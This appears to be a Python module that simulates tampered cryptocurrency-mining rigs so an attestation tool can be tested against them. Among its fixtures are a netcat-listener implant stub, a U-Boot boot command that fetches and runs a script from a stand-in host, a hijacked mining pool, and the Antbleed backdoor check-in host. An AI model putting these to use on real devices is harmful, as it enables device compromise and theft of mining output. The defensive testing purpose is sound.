"""The tamper scenarios of DESIGN.md, each a deterministic change to a genuine rig."""

from __future__ import annotations

import functools
import hashlib
import random
from dataclasses import dataclass

from attest.sim.families import make_family, version_for
from attest.sim.rig import DROP, GARBAGE, NOISY, NORMAL, SLOW, UNRESPONSIVE, AsBuilt, Hashboard, Pool, Release, Rig

# name -> the verdict DESIGN.md says a full verification must give
SCENARIOS: dict[str, str] = {
    "genuine": "TRUSTED",
    "modified-firmware": "UNTRUSTED",
    "revoked-firmware": "UNTRUSTED",
    "swapped-hashboard": "UNTRUSTED",
    "replaced-control-board": "UNTRUSTED",
    "antbleed": "UNTRUSTED",
    "pool-hijack": "WARNING",
    "api-only": "WARNING",
    "not-in-manifest": "UNTRUSTED",
    "cloned-serial": "UNTRUSTED",
    "unresponsive": "UNKNOWN",
    "garbage": "UNKNOWN",
    "slow": "TRUSTED",
    "phone-home": "TRUSTED",  # genuine firmware that also reaches an unlisted host: only the watch sees it
}

#: Where a scenario's verdict differs when `attest verify --watch` watches the rigs' network (the
#: simulator given --dns): scenario -> (verdict, the reason code that decides it).
UNDER_WATCH: dict[str, tuple[str, str]] = {
    "phone-home": ("WARNING", "EGRESS_UNLISTED"),
}

#: One genuine rig per firmware family the drivers read (docs/protocols.md, "Support matrix"):
#: scenario name -> (model, firmware family, the verdict its channels can prove). None of them
#: offers SSH, so firmware is only reported: WARNING at best. `mixed` holds them after SCENARIOS.
FAMILY_SCENARIOS: dict[str, tuple[str, str, str]] = {
    "avalon": ("AvalonMiner 1246", "avalon", "WARNING"),
    "whatsminer-v2": ("Whatsminer M30S+", "whatsminer", "WARNING"),
    "whatsminer-v3": ("Whatsminer M60S", "whatsminer3", "WARNING"),
    "antminer-stock": ("Antminer S19j Pro", "antminer", "WARNING"),
    "antminer-vnish": ("Antminer S19 Pro", "vnish", "WARNING"),
    "braiins-os": ("Antminer S19j Pro", "braiins", "WARNING"),
    "luxos": ("Antminer S19 XP", "luxos", "WARNING"),
    "antminer-epic": ("Antminer S19j Pro", "epic", "WARNING"),
}
#: What every rig of a `mixed` fleet must get: the scenarios, then the family rigs.
MIXED: dict[str, str] = {**SCENARIOS, **{name: verdict for name, (_, _, verdict) in FAMILY_SCENARIOS.items()}}

#: Console-only trouble (attest.sim.console), not part of `mixed` (whose table DESIGN.md fixes):
#: name -> (verdict over the network, verdict over the serial console alone).
SERIAL_SCENARIOS: dict[str, tuple[str, str]] = {
    "serial-noisy": ("TRUSTED", "TRUSTED"),  # junk, escapes and kernel lines on the line: read through
    "serial-drop": ("TRUSTED", "UNKNOWN"),  # the console goes dead mid-command
}

#: Tampering that only a station measuring the flash itself can see, not part of `mixed` (whose
#: table DESIGN.md fixes): name -> the verdict a full verification must give (docs/scenarios.md).
TAMPER_SCENARIOS: dict[str, str] = {
    "lying-sha256sum": "UNTRUSTED",  # modified rootfs; its sha256sum prints the genuine digests
    "unlisted-partition": "UNTRUSTED",  # an ELF in a partition no signed release lists
    "env-script": "UNTRUSTED",  # the saved U-Boot environment fetches and runs a script at boot
}

ALLOWED_POOL = "stratum+tcp://pool.example-mining.net:3333"
HIJACK_POOL = "stratum+tcp://198.51.100.66:4444"
#: The Antbleed check-in host, as it sat in Bitmain's bmminer binaries in 2017.
ANTBLEED_BYTES = b'auth.minerlink.com\x00setup_send_mac_socket\x00{"ctrl_board":"%s","id":"%d","hashboard":[%s]}\x00'


#: A small ARM ELF executable (header and a body of code-like bytes): what an implant planted in a
#: spare partition looks like to anything that reads the flash.
IMPLANT_ELF = (b"\x7fELF\x01\x01\x01\x00" + bytes(8) + b"\x02\x00\x28\x00\x01\x00\x00\x00"
               + b"\x54\x80\x00\x00\x34\x00\x00\x00" + bytes(4096 - 32)).ljust(32 * 1024, b"\xff")


@dataclass(frozen=True)
class Model:
    name: str
    family: str
    boards: int
    chips: int
    hostname: str
    miner_path: str


MODELS = (
    Model("Antminer S21", "antminer", 3, 108, "Antminer", "/usr/bin/bmminer"),
    Model("Antminer S19 Pro", "antminer", 3, 114, "Antminer", "/usr/bin/bmminer"),
    Model("Whatsminer M50S", "whatsminer", 3, 156, "WhatsMiner", "/usr/bin/btminer"),
    # The family rigs' models (FAMILY_SCENARIOS); model_for never picks these for a scenario.
    Model("AvalonMiner 1246", "avalon", 3, 120, "Avalon", "/usr/bin/cgminer"),
    Model("Whatsminer M30S+", "whatsminer", 3, 215, "WhatsMiner", "/usr/bin/btminer"),
    Model("Whatsminer M60S", "whatsminer", 3, 224, "WhatsMiner", "/usr/bin/btminer"),
    Model("Antminer S19j Pro", "antminer", 3, 126, "Antminer", "/usr/bin/bmminer"),
    Model("Antminer S19 XP", "antminer", 3, 110, "Antminer", "/usr/bin/bmminer"),
)
MODEL_BY_NAME = {m.name: m for m in MODELS}

IMAGE_SIZES = {"boot": 64 * 1024, "rootfs": 192 * 1024}


def _blob(seed: str, size: int) -> bytes:
    """Deterministic pseudo-random bytes: a stand-in flash image that hashes like a real one."""
    out = bytearray()
    counter = 0
    while len(out) < size:
        out += hashlib.sha256(f"{seed}/{counter}".encode()).digest()
        counter += 1
    return bytes(out[:size])


# Cached: every rig of a model holds the same release bytes, so a 1,000-rig fleet shares three
# releases instead of hashing (and holding) 256 KiB of images per rig; that was most of its start.
@functools.cache
def _miner_binary(model: Model, version: str, *, antbleed: bool) -> bytes:
    body = _blob(f"miner/{model.name}/{version}", 24 * 1024)
    marker = b"\x00bmminer " + version.encode() + b"\x00stratum+tcp\x00"
    return body[:8192] + marker + (ANTBLEED_BYTES if antbleed else b"") + body[8192:]


@functools.cache
def release(model_name: str, version: str) -> Release:
    """A firmware release: its images are what a genuine rig of that model holds in flash."""
    model = MODEL_BY_NAME[model_name]
    images = {name: _blob(f"image/{model.name}/{version}/{name}", size) for name, size in IMAGE_SIZES.items()}
    build = f"Tue Sep  8 10:{len(version):02d}:00 CST 2026 ({version})"
    return Release(model.name, version, build, images)


CURRENT_VERSION = "2026.09.1"
REVOKED_VERSION = "2017.04.1"  # the Antbleed-era release, signed then and revoked since


def releases() -> list[Release]:
    return [release(m.name, version_for(m.name, CURRENT_VERSION)) for m in MODELS]


def revoked_releases() -> list[Release]:
    return [release(m.name, REVOKED_VERSION) for m in MODELS]


def model_for(index: int, scenario: str) -> Model:
    """Antminers for most rigs (the web CGI and pyasic need one); every third a Whatsminer.

    Scenarios about the Antminer web interface or bmminer's binary stay on Antminers.
    """
    if scenario in ("antbleed", "unresponsive", "garbage"):
        return MODELS[index % 2]
    return MODELS[index % 3]


def make_rig(index: int, scenario: str, host: str, *, seed: str = "rigattest-demo",
             model_name: str | None = None) -> Rig:
    """A genuine rig for slot ``index``, then changed as ``scenario`` says.

    ``model_name`` pins the model (a clone must be the same model as the unit it copies).
    """
    known = [*SCENARIOS, *SERIAL_SCENARIOS, *TAMPER_SCENARIOS, *FAMILY_SCENARIOS]
    if scenario not in known:
        raise ValueError(f"unknown scenario {scenario!r}; known: {', '.join(known)}")
    if scenario in FAMILY_SCENARIOS and not model_name:
        model_name = FAMILY_SCENARIOS[scenario][0]
    model = MODEL_BY_NAME[model_name] if model_name else model_for(index, scenario)
    rnd = random.Random(f"{seed}/{index}")
    prefix = {"antminer": "JYZZ", "whatsminer": "HTM3", "avalon": "AVA1"}[model.family]
    serial = f"{prefix}{rnd.randrange(16**8):08X}{index:04d}"
    octets = [0x02, 0xA7, rnd.randrange(256), rnd.randrange(256), index >> 8 & 0xFF, index & 0xFF]
    mac = ":".join(f"{b:02X}" for b in octets)
    fw = release(model.name, version_for(model.name, CURRENT_VERSION))
    rig = Rig(
        name=f"rig-{index + 1:03d}",
        scenario=scenario,
        family=model.family,
        model=model.name,
        host=host,
        serial=serial,
        mac=mac,
        control_board_serial=f"CB{rnd.randrange(16**10):010X}",
        psu_serial=f"APW{rnd.randrange(10**9):09d}",
        hashboards=[Hashboard(slot, f"HB{rnd.randrange(16**8):08X}S{slot}", model.chips)
                    for slot in range(model.boards)],
        firmware_version=fw.version,
        firmware_build=fw.build,
        images=dict(fw.images),
        miner_path=model.miner_path,
        miner_binary=_miner_binary(model, fw.version, antbleed=False),
        pools=[Pool(ALLOWED_POOL, f"intake.{index + 1}")],
        config_partition=_blob(f"config/{serial}", 16 * 1024),
        hostname=model.hostname,
        host_key_seed=f"{seed}/{index}",
    )
    if scenario in FAMILY_SCENARIOS:
        make_family(rig, FAMILY_SCENARIOS[scenario][1], rnd)
    rig.as_built = AsBuilt(rig.model, rig.serial, rig.mac, rig.control_board_serial, rig.psu_serial,
                           tuple((hb.slot, hb.serial, hb.chips) for hb in rig.hashboards))
    apply_scenario(rig, scenario, rnd)
    return rig


def without_binary_indicators(rig: Rig) -> None:
    """The rig's miner binary as the genuine release has it, whatever it does on the network: an
    antbleed rig then hides from the binary scan and only its check-in gives it away."""
    rig.miner_binary = _miner_binary(MODEL_BY_NAME[rig.model], rig.firmware_version, antbleed=False)


def apply_scenario(rig: Rig, scenario: str, rnd: random.Random) -> None:
    """Change a genuine rig so it shows what the scenario says (identity kept unless stated)."""
    if scenario in ("modified-firmware", "lying-sha256sum"):
        genuine = rig.images["rootfs"]
        rootfs = bytearray(genuine)
        rootfs[4096:4096 + 16] = b"#!/bin/sh\nnc -l\n"  # a tiny implant in the rootfs
        rig.images["rootfs"] = bytes(rootfs)
        if scenario == "lying-sha256sum":  # ... and a busybox whose sha256sum hashes a kept copy
            rig.self_report = {"rootfs": genuine}
    elif scenario == "unlisted-partition":
        rig.extra_partitions["upgrade-rootfs"] = IMPLANT_ELF
    elif scenario == "env-script":
        rig.uboot_env["fetch"] = f"dhcp; tftpboot ${{loadaddr}} {HIJACK_POOL.split('//')[1].split(':')[0]}:boot.scr; " \
                                 "source ${loadaddr}"
        rig.uboot_env["bootcmd"] = "run fetch; nand read ${loadaddr} 0x0 0x10000; bootm ${loadaddr}"
    elif scenario == "revoked-firmware":
        old = release(rig.model, REVOKED_VERSION)
        rig.images = dict(old.images)
        rig.firmware_version, rig.firmware_build = old.version, old.build
    elif scenario == "swapped-hashboard":
        rig.hashboards[1].serial = f"HB{rnd.randrange(16**8):08X}X1"
    elif scenario == "replaced-control-board":
        rig.control_board_serial = f"CB{rnd.randrange(16**10):010X}"
        rig.mac = "02:B3:" + ":".join(f"{rnd.randrange(256):02X}" for _ in range(4))
    elif scenario == "antbleed":
        model = MODEL_BY_NAME[rig.model]
        rig.miner_binary = _miner_binary(model, rig.firmware_version, antbleed=True)
        rig.beacons = ("antbleed",)
    elif scenario == "phone-home":
        rig.beacons = ("phone-home",)
    elif scenario == "pool-hijack":
        rig.pools.insert(0, Pool(HIJACK_POOL, "bc1qhijacked"))
    elif scenario == "api-only":
        rig.ssh_enabled = False
    elif scenario == "unresponsive":
        rig.behaviour = UNRESPONSIVE
    elif scenario == "garbage":
        rig.behaviour = GARBAGE
    elif scenario == "slow":
        rig.behaviour = SLOW
    elif scenario == "serial-noisy":
        rig.console = NOISY
    elif scenario == "serial-drop":
        rig.console = DROP
    else:
        rig.behaviour = rig.behaviour or NORMAL
    # not-in-manifest and cloned-serial are decided when the manifest is written (see fleet).


#: One line per scenario for `attest sim --help` (a scenario without one is still listed).
SCENARIO_HELP: dict[str, str] = {
    "genuine": "nothing differs from the manifest",
    "modified-firmware": "a rootfs image no signed release has",
    "revoked-firmware": "a signed release the manifest has since revoked",
    "swapped-hashboard": "one hashboard serial is not the manifest's",
    "replaced-control-board": "control-board serial and MAC differ",
    "antbleed": "the miner binary holds a known remote-shutdown backdoor",
    "pool-hijack": "a pool outside the station's allow-list",
    "api-only": "no SSH, so the firmware is only reported",
    "not-in-manifest": "a serial no loaded manifest lists",
    "cloned-serial": "copies another rig's identity: both are flagged",
    "unresponsive": "accepts connections, never answers",
    "garbage": "answers with malformed bytes",
    "slow": "answers every request after about a second",
    "phone-home": "genuine firmware that also reaches an unlisted host over TLS (caught only by --watch)",
    "lying-sha256sum": "a modified rootfs whose own sha256sum prints the genuine digests",
    "unlisted-partition": "an ELF in a flash partition no signed release lists",
    "env-script": "the saved U-Boot environment fetches and runs a script at boot",
    "serial-noisy": "junk, escapes and kernel messages on the console line",
    "serial-drop": "the console goes dead mid-command",
}
